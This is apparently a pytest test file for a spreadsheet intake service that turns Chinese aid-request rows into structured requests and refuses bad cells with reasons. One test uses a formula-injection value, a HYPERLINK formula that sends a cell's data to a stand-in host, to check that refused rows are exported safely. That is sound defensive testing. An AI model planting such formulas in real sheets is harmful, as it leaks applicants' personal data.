"""Spreadsheets: what is a request becomes one, what is none says why and where."""

import hashlib
import io
import json
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.intake.channels.spreadsheet import (
    SheetReading,
    SheetRequest,
    find_headers,
    read_requests,
)
from services.intake.rules import find_problems
from shared.contracts.values import Channel, Need
from shared.errors import Invalid
from shared.sheets import RefusedRow, write_refused
from shared.sheets.asides import is_note
from shared.sheets.cells import unwrap_cell
from tests.intake.builders import RULES
from tests.intake.sheets import GOOD, good, refused, rows_of, table


def test_chinese_headers_and_words_become_a_request() -> None:
    request = good(GOOD).request
    assert request.need == Need(unit="fen", quantity=20_050)
    assert request.applicant.phone == "+8613800138000"
    assert (request.category, request.beneficiary_class) == ("supplies", "subsistence")
    assert request.area.town_code == "441900103"
    assert find_problems(RULES, request) == ()


def test_english_headers_and_codes_become_the_same_request() -> None:
    english = {
        "name": "张三",
        "phone": "+8613800138000",
        "category": "supplies",
        "class": "subsistence",
        "amount_fen": "20050",
        "town_code": "441900103",
        "text": "棉被",
    }
    assert good(english).request == good(GOOD).request


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
def test_the_encodings_of_spreadsheets_are_read(encoding: str) -> None:
    (found,) = rows_of(GOOD, encoding=encoding)
    assert isinstance(found, SheetRequest)
    assert found.request.applicant.name == "张三"


def test_goods_have_item_quantity_and_unit() -> None:
    row = {k: v for k, v in GOOD.items() if k != "金额"}
    row |= {"物品": "棉被", "数量": "2", "单位": "床"}
    assert good(row).request.need == Need(unit="床", quantity=2, item="棉被")


@pytest.mark.parametrize("village", ["超朗村", "超朗", "茶山镇超朗村委会", "441900103215"])
def test_a_village_by_name_is_the_villages_own(village: str) -> None:
    area = good(GOOD | {"村居": village}).request.area
    assert (area.town_code, area.village_code) == ("441900103", "441900103215")


def test_a_village_that_is_clear_says_its_town() -> None:
    area = good(GOOD | {"镇街": "全市", "村居": "超朗村"}).request.area
    assert (area.town_code, area.village_code) == ("441900103", "441900103215")


@pytest.mark.parametrize("village", ["某某村", "石龙某社区"])
def test_a_village_that_nobody_knows_stays_readable(village: str) -> None:
    request = good(GOOD | {"村居": village}).request
    assert village in request.text
    assert request.area.village_code is None
    coded = good(GOOD | {"村居": "441900103001", "镇街": ""}).request
    assert coded.area.village_code == "441900103001"
    assert coded.area.town_code == "441900103"


@pytest.mark.parametrize(
    ("field", "value", "code"),
    [
        ("金额", "abc", "amount_wrong"),
        ("金额", "1.001", "amount_fractional"),
        ("金额", "-5", "amount_signed"),
        ("金额", "NaN", "amount_wrong"),
        ("金额", "200,50", "amount_wrong"),
        ("金额", "1,5", "amount_wrong"),
        ("金额", "1_000", "amount_wrong"),
        ("金额", "2E+05", "amount_abbreviated"),
        ("金额", "HK$100", "currency_foreign"),
        ("手机", "138****8000", "phone_masked"),
        ("手机", "1.38E+10", "phone_abbreviated"),
        ("镇街", "火星镇", "town_unknown"),
        ("类别", "什么", "word_unknown"),
        ("困难类别", "", "value_missing"),
        ("姓名", "", "value_missing"),
    ],
)
def test_a_wrong_cell_is_refused_with_its_field(field: str, value: str, code: str) -> None:
    row = refused(GOOD | {field: value})
    (problem,) = row.problems
    assert problem.code == code
    assert row.line == 2
    assert problem.zh
    assert problem.en


def test_every_wrong_cell_of_a_row_is_said() -> None:
    assert len(refused(GOOD | {"金额": "x", "镇街": "x", "手机": "x"}).problems) == 3


def test_bad_rows_do_not_hold_back_good_ones() -> None:
    found = rows_of(GOOD, GOOD | {"金额": "x"}, GOOD | {"金额": "1"})
    assert [type(row) for row in found] == [SheetRequest, RefusedRow, SheetRequest]
    assert [row.line for row in found] == [2, 3, 4]


def test_the_same_row_has_the_same_key_and_another_one_another() -> None:
    assert good(GOOD).key == good(dict(reversed(GOOD.items()))).key
    assert good(GOOD).key == good(GOOD | {"原因": "写错了"}).key
    assert good(GOOD).key != good(GOOD | {"金额": "201"}).key


def test_a_numbered_row_has_the_key_it_had_before() -> None:
    """What was imported by an earlier release is corrected, and not recorded once more."""
    numbered = GOOD | {"编号": "7", "村居": "441900103001", "收集人": "C-07"}
    whose = ["7", "441900103", "441900103001", "C-07", GOOD["姓名"]]
    framed = json.dumps([Channel.SPREADSHEET.value, whose], ensure_ascii=False).encode()
    assert good(numbered).key == f"row-{hashlib.sha256(framed).hexdigest()[:32]}"


def test_a_number_of_its_own_is_the_key() -> None:
    one, other = GOOD | {"编号": "7"}, GOOD | {"编号": "7", "金额": "9"}
    assert good(one).key == good(other).key
    assert good(one).key != good(GOOD | {"编号": "8"}).key


@pytest.mark.parametrize(
    ("header", "value"), [("姓名", "李四"), ("村居", "441900103002"), ("收集人", "C-08")]
)
def test_every_village_numbers_its_rows_from_1(header: str, value: str) -> None:
    one = GOOD | {"编号": "1", "村居": "441900103001", "收集人": "C-07"}
    assert good(one).key != good(one | {header: value}).key
    assert good(one).key == good(one | {"编号": " 1 ", "姓名": "张三\u200b", "金额": "7"}).key


@pytest.mark.parametrize(
    ("header", "word", "field", "code"),
    [
        ("困难类别", "五保户", "beneficiary_class", "extreme_poverty"),
        ("困难类别", "高龄老人", "beneficiary_class", "elderly_alone"),
        ("困难类别", "困难群众", "beneficiary_class", "temporary_hardship"),
        ("类别", "物资", "category", "supplies"),
        ("类别", "房屋修缮", "category", "housing_repair"),
    ],
)
def test_the_clerks_words_are_understood(header: str, word: str, field: str, code: str) -> None:
    assert getattr(good(GOOD | {header: word}).request, field) == code


@pytest.mark.parametrize("word", ["全市", "东莞市", "不详", "镇街不详"])
def test_somewhere_in_the_city_is_a_place(word: str) -> None:
    request = good(GOOD | {"镇街": word}).request
    assert request.area.town_code == "441900000"
    assert not find_problems(RULES, request)


def test_a_long_text_is_kept() -> None:
    assert len(good(GOOD | {"内容": "情" * 30_000}).request.text) == 30_000


def test_a_number_in_the_item_goes_into_the_text() -> None:
    row = {k: v for k, v in GOOD.items() if k != "金额"}
    row |= {"数量": "2", "单位": "床", "物品": "棉被2床给司徒甲13788000999"}
    request = good(row).request
    assert request.need.item == "棉被2床给司徒甲"
    assert request.text == "所写物品：棉被2床给司徒甲13788000999\n棉被"
    assert not find_problems(RULES, request)
    assert good(row | {"物品": "13788000999"}).request.need.item == "棉被"


def test_an_id_number_is_the_applicants() -> None:
    request = good(GOOD | {"证件号码": "44190019900101 123x"}).request
    assert request.applicant.id_number == "44190019900101123X"
    rewritten = refused(GOOD | {"身份证号": "4.41900199001011E+17"})
    assert [problem.code for problem in rewritten.problems] == ["value_rewritten"]


def test_the_channel_is_part_of_the_key() -> None:
    (row,) = read_requests(table(GOOD), Channel.HOTLINE)
    assert isinstance(row, SheetRequest)
    assert row.key != good(GOOD).key
    assert row.request.channel is Channel.HOTLINE


@pytest.mark.parametrize("content", [b"a,b\n1,2\n", b"", b"\xff\xfe\x00\x01"])
def test_what_is_no_table_of_requests_is_refused_whole(content: bytes) -> None:
    with pytest.raises(Invalid):
        list(read_requests(content, Channel.SPREADSHEET))


@given(st.lists(st.fixed_dictionaries({name: st.text(max_size=12) for name in GOOD}), max_size=4))
def test_whatever_the_cells_hold_every_row_is_answered(rows: list[dict[str, str]]) -> None:
    if rows:
        cells = [tuple(map(unwrap_cell, row.values())) for row in rows]
        kept = [row for row in cells if any(row) and not is_note(row)]
        content = table(*rows)
        try:
            found = list(read_requests(content, Channel.SPREADSHEET))
        except Invalid:
            return
        assert len(found) >= len(kept)


# --- the shape of the table ---

HEADER = "姓名,手机,类别,困难类别,镇街,内容,金额\n"


def read_text(text: str) -> list[SheetRequest | RefusedRow]:
    return list(read_requests(text.encode(), Channel.SPREADSHEET))


def test_an_amount_that_nobody_quoted_is_a_cell_too_many() -> None:
    (row,) = read_text(HEADER + "张三,13800138000,生活物资,低保,茶山镇,棉被,1,000\n")
    assert isinstance(row, RefusedRow)
    assert [problem.code for problem in row.problems] == ["cells_surplus"]


def test_no_person_disappears_in_a_quote() -> None:
    found = read_text(
        "姓名,手机,类别,困难类别,镇街,金额,内容\n"
        '张三,13800138000,生活物资,低保,茶山镇,200,"急用\n'
        "李四,13900139000,助学,低保,茶山镇,300,学费\n"
        "王五,13700137000,助学,低保,茶山镇,400,书包\n"
    )
    assert [(type(row), row.line) for row in found] == [
        (RefusedRow, 2),
        (SheetRequest, 3),
        (SheetRequest, 4),
    ]


@pytest.mark.parametrize(
    ("header", "row"),
    [
        (
            "姓名,手机,类别,困难类别,镇街,金额,收集人,联系电话",
            "张三,13800138000,生活物资,低保,茶山镇,200,C-07,13911112222",
        ),
        ("姓名,手机,手机,类别,困难类别,镇街,金额", "张三,1,2,生活物资,低保,茶山镇,200"),
        ("金额,姓名,类别,困难类别,镇街,申请金额", "200,张三,生活物资,低保,茶山镇,300"),
    ],
)
def test_two_columns_of_one_meaning_are_refused_whole(header: str, row: str) -> None:
    with pytest.raises(Invalid) as error:
        read_text(f"{header}\n{row}\n")
    assert error.value.problems[0].code == "columns_repeated"


def test_a_title_above_the_header_is_skipped_and_a_total_below_is_no_person() -> None:
    content = (
        "茶山镇2026年1月微心愿汇总表,,,,,,\n".encode() + table(GOOD) + "合计,,,,200.50,,\n".encode()
    )
    (row,) = read_requests(content, Channel.SPREADSHEET)
    assert isinstance(row, SheetRequest)
    assert (row.line, row.key) == (3, good(GOOD).key)


def test_columns_that_are_not_read_are_listed() -> None:
    sheet = read_requests(table(GOOD | {"联系方式备注": "x"}), Channel.SPREADSHEET)
    assert sheet.table.unread == ("联系方式备注",)


def test_a_workbook_is_read_like_its_csv() -> None:
    book = openpyxl.Workbook()
    assert book.active is not None
    book.active.append(list(GOOD))
    book.active.append(list(GOOD.values()))
    out = io.BytesIO()
    book.save(out)
    (row,) = read_requests(out.getvalue(), Channel.SPREADSHEET)
    assert isinstance(row, SheetRequest)
    assert (row.key, row.request) == (good(GOOD).key, good(GOOD).request)


def test_a_refused_row_comes_back_as_it_was_and_is_corrected_there(tmp_path: Path) -> None:
    name = '=HYPERLINK("http://a.example/?"&B2,"查看")'
    content = table(GOOD | {"姓名": name, "手机": "138"})
    sheet = read_requests(content, Channel.SPREADSHEET)
    rows = [row for row in sheet if isinstance(row, RefusedRow)]
    target = tmp_path / "refused.csv"
    write_refused(target, sheet.table.headers, rows)
    text = target.read_text("utf-8-sig")
    assert "\"'=HYPERLINK" in text
    target.write_text(text.replace(",138,", ",13800138000,"), "utf-8-sig")
    corrected = read_requests(target.read_bytes(), Channel.SPREADSHEET)
    (row,) = corrected
    assert isinstance(row, SheetRequest)
    assert row.request.applicant.name == name
    assert corrected.table.unread == ()
    assert row.key == good(GOOD | {"姓名": name, "手机": "13800138000"}).key


def test_an_id_number_and_whose_the_phone_is_are_read() -> None:
    header = "姓名,手机,类别,困难类别,镇街,金额,身份证号码,电话归属"
    content = f"{header}\n张三,13800138000,生活物资,低保,茶山镇,200,441999195505055557,收集人\n"
    (row,) = read_requests(content.encode(), Channel.SPREADSHEET)
    assert isinstance(row, SheetRequest)
    applicant = row.request.applicant
    assert (applicant.id_number, applicant.contact_of) == ("441999195505055557", "collector")


def make_village_sheet(*rows: dict[str, str], title: str = "茶山镇2026年微心愿汇总表") -> bytes:
    return f"{title},,\n".encode() + table(*rows)


AS_CLERKS_WRITE = {
    "序号": "1",
    "求助人姓名": "谢锦棠",
    "联系方式": "0769-86640000",
    "困难类型": "低保",
    "需求类型": "生活物资",
    "申请金额（元）": "1500",
    "所在村": "南社村",
    "情况": "家里两老",
    "家庭住址": "南社村3巷5号",
    "备注": "电话是村委的",
}


def test_a_sheet_in_the_words_of_a_village_is_read() -> None:
    sheet = read_requests(make_village_sheet(AS_CLERKS_WRITE), Channel.COMMITTEE)
    (row,) = sheet
    assert isinstance(row, SheetRequest)
    request = row.request
    assert (request.area.town_code, request.area.village_code) == ("441900103", "441900103207")
    assert request.need == Need(unit="fen", quantity=150_000)
    assert request.applicant.phone is None, "no SMS reaches it"
    for words in (
        "家里两老",
        "联系电话：0769-86640000",
        "住址：南社村3巷5号",
        "备注：电话是村委的",
    ):
        assert words in request.text
    assert [remark.code for remark in row.remarks] == ["value_dropped"]
    assert sheet.table.unread == ("序号",)


@pytest.mark.parametrize(
    ("title", "town"),
    [
        ("石排镇微心愿", "441900104"),
        ("微心愿汇总表", "441900005"),  # whose uploads are of Wanjiang
        ("茶山镇、石排镇微心愿", "441900005"),
    ],
)
def test_a_row_without_a_place_is_of_the_title_or_of_who_uploads(title: str, town: str) -> None:
    row = {name: text for name, text in GOOD.items() if name != "镇街"}
    reading = SheetReading(town="441900005")
    sheet = read_requests(make_village_sheet(row, title=title), Channel.COMMITTEE, reading=reading)
    (found,) = sheet
    assert isinstance(found, SheetRequest)
    assert found.request.area.town_code == town


def test_a_changed_remark_is_a_correction_and_no_other_row() -> None:
    assert good(GOOD | {"备注": "急"}).key == good(GOOD | {"备注": "不急"}).key == good(GOOD).key


def test_a_person_says_which_column_is_what_and_what_all_rows_are() -> None:
    row = {name: text for name, text in GOOD.items() if name not in ("姓名", "类别")}
    content = table(row | {"谁": "张三"})
    with pytest.raises(Invalid):
        read_requests(content, Channel.COMMITTEE)
    assert "谁" in find_headers(content)
    reading = SheetReading(mapping={"name": "谁"}, constants={"category": "supplies"})
    (found,) = read_requests(content, Channel.COMMITTEE, reading=reading)
    assert isinstance(found, SheetRequest)
    assert found.request.applicant.name == "张三"


def test_a_table_of_something_else_has_no_headers_to_ask_about() -> None:
    assert find_headers(b"x,y\n1,2\n") == ()
